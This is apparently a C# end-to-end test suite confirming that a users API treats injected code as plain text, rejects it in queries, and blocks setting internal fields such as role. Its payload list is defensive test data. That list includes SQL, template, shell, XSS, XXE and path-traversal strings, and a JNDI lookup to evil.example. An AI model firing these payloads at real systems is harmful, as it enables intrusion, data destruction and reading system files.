using System.Net;
using System.Text.Json;

namespace EndToEnd.Tests.Hostile;

/// <summary>Code of any language in a value is stored and shown as text and never executed.</summary>
[Collection(SystemFixture.Registering)]
public sealed class InjectionTests(SystemFixture system)
{
    public static TheoryData<string> Programs =>
    [
        "'; drop table users; --", "' or '1'='1", "1) union select key from cursor_key --",
        "\\'; select pg_sleep(10) --",
        "*)(uid=*))(|(uid=*", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "${jndi:ldap://evil.example/x}",
        "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)", "%0d%0aSet-Cookie: a=b", "; cat /etc/passwd", "$(id)", "../../etc/passwd", "%s%n%x",
        "<!--#exec cmd=\"id\"-->", "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"file:///etc/passwd\">",
        "true", "NULL", "\\",
    ];

    [Theory]
    [MemberData(nameof(Programs))]
    public async Task Name_with_code_is_stored_and_shown_as_text(string name)
    {
        var created = await system.SendJsonAsync(
            "POST", "/api/users", JsonSerializer.Serialize(new { name, email = $"{Guid.NewGuid():N}@example.org" }));

        created.AssertSound();
        Assert.Equal((201, name), (created.Status, created.Json.GetProperty("name").GetString()));
        var id = created.Json.GetProperty("id").GetInt64();
        Assert.Equal(name, (await system.SendAsync("GET", $"/api/users/{id}")).Json.GetProperty("name").GetString());
        var page = await system.Gateway.GetStringAsync("/", TestContext.Current.CancellationToken);
        Assert.Contains(WebUtility.HtmlEncode(name), page.Replace("&#x27;", "&#39;", StringComparison.Ordinal)
            .Replace("&#x2B;", "+", StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.DoesNotContain("<script>alert", page, StringComparison.Ordinal);
        await system.SendAsync("DELETE", $"/api/users/{id}");
    }

    [Theory]
    [InlineData("'or'1'='1@example.org")]
    [InlineData("{{7*7}}@example.org")]
    [InlineData("$%7*7#{id}@example.org")]
    [InlineData("=1+1|x@example.org")]
    public async Task Email_with_code_is_stored_as_text(string email)
    {
        var body = JsonSerializer.Serialize(new { name = "Ada", email });

        var created = await system.SendJsonAsync("POST", "/api/users", body);

        Assert.Equal((201, email), (created.Status, created.Json.GetProperty("email").GetString()));
        await system.SendAsync("DELETE", $"/api/users/{created.Json.GetProperty("id").GetInt64()}");
    }

    /// <summary>What takes a value in the list's query.</summary>
    private static readonly string[] Parameters =
        ["q", "email", "ids", "sort", "status", "created_after", "cursor", "count", "view"];

    [Theory]
    [MemberData(nameof(Programs))]
    public async Task Query_with_code_finds_nothing(string program)
    {
        foreach (var parameter in Parameters)
        {
            var reply = await system.SendAsync("GET", $"/api/users?{parameter}={Uri.EscapeDataString(program)}");

            reply.AssertSound();
            Assert.True(reply.Status == 400 || reply.Body == "[]", $"{parameter}: {reply.Body}");
        }
    }

    [Theory]
    [InlineData("id", "7")]
    [InlineData("version", "9")]
    [InlineData("created_at", "\"2000-01-01T00:00:00+00:00\"")]
    [InlineData("deleted_at", "null")]
    [InlineData("email_key", "\"x\"")]
    [InlineData("role", "\"admin\"")]
    [InlineData("is_admin", "true")]
    public async Task Internal_field_cannot_be_set(string member, string value)
    {
        var body = $"{{\"name\":\"Ada\",\"email\":\"{Guid.NewGuid():N}@example.org\",\"{member}\":{value}}}";

        foreach (var (method, path) in BodyTests.Calls)
        {
            var reply = await system.SendJsonAsync(method, path, body);

            reply.AssertProblem(400, "Validation failed");
            Assert.Contains(
                reply.Json.GetProperty("details").GetProperty(member)[0].GetString(),
                new[] { "Unknown field.", "Read-only field." });
        }
    }
}
